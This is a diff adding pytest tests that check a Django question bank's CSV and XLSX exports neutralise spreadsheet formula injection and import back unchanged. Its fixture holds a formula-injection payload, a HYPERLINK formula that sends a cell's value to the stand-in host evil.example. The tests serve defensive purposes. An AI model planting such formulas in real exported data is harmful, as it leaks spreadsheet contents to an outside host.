@@ -6,6 +6,7 @@ import json
 import os
 import tempfile
 
+import openpyxl
 import pytest
 import tablib
 from django.contrib.auth.models import Group, Permission
@@ -106,6 +107,52 @@ def test_the_csv_export_has_every_column_and_readable_values(seed_bank, editor_c
     assert first["minutes"] == "7"
     assert first["is_active"] == "1"
     assert any("’" in row["guidance"] for row in rows)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formula_question(seed_bank):
+    """A question whose text and guidance a spreadsheet would run as formulas."""
+    question = Question.objects.order_by("id").first()
+    Question.objects.filter(pk=question.pk).update(text=FORMULA, guidance="+" + FORMULA[1:])
+    return question
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_import_back_unchanged(
+    formula_question, editor_client
+):
+    content = export(editor_client, "csv")
+    [row] = [row for row in csv_rows(content) if row["slug"] == formula_question.slug]
+    assert (row["text"], row["guidance"]) == ("'" + FORMULA, "'+" + FORMULA[1:])
+
+    before = snapshot()
+    response = preview(editor_client, content, "csv")
+    assert response.context["report"].counts["unchanged"] == 60
+    confirm(editor_client, response)
+    assert snapshot() == before
+
+
+def test_xlsx_cells_a_spreadsheet_would_run_are_text_and_import_back_unchanged(
+    formula_question, editor_client
+):
+    content = export(editor_client, "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    headers = [cell.value for cell in sheet[1]]
+    [cell] = [
+        row[headers.index("text")]
+        for row in sheet.iter_rows(min_row=2)
+        if row[headers.index("slug")].value == formula_question.slug
+    ]
+    # The very text, typed as text rather than formula.
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
+
+    before = snapshot()
+    response = preview(editor_client, content, "xlsx")
+    assert response.context["report"].counts["unchanged"] == 60
+    confirm(editor_client, response)
+    assert snapshot() == before
 
 
 def test_the_json_export_is_a_list_of_rows(seed_bank, editor_client):
